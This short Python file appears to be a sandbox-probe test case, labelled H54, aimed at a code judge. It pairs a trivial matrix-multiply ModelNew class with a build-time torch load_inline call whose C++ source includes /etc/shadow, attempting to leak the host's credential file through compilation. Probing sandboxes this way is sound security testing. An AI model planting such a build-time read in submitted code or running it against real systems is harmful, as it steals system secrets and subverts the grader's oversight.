"""H54 build-time reading: an extension that includes a file of the machine that builds it.

Source: DMOJ issue 318, https://github.com/DMOJ/judge-server/issues/318
Hopes: that the compiler sees more than its own headers.
"""

import torch
from torch.utils.cpp_extension import load_inline

STOLEN = load_inline("stolen", '#include "/etc/shadow"\n', functions=[], no_implicit_headers=True)


class ModelNew(torch.nn.Module):
    def forward(self, a, b):
        return a @ b
